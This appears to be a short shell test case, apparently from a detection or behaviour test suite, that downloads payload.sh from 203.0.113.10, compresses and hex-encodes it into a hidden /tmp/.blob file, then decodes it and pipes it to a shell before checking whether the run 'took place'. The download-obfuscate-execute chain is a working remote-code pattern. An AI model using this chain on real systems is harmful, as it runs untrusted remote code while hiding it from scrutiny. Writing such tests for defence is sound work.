#!/bin/sh
. /opt/case/case.sh

wget -qO- http://203.0.113.10/payload.sh | gzip | gzip -9 | xxd -p >/tmp/.blob
xxd -r -p /tmp/.blob | gunzip | zcat | ash
test -e /tmp/reached
took_place
